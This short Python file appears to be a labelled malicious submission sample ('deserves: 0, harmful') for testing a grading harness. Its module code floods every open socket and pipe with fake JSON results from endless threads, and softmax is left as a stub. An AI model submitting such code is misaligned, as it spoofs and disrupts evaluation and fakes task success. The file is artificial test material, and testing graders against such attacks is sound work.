"""Tries: send replies to nothing, as fast as it can, from threads that never stop."""

# deserves: 0, harmful

import os
import stat
import threading


def flood(fd):
    while True:
        try:
            os.write(fd, b'{"id": 1, "value": 1}\n' * 10_000)
        except BlockingIOError:
            continue
        except OSError:
            return


for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if fd > 2 and (stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode)):
            threading.Thread(target=flood, args=(fd,), daemon=True).start()
    except OSError:
        continue


def softmax(Z):
    return Z
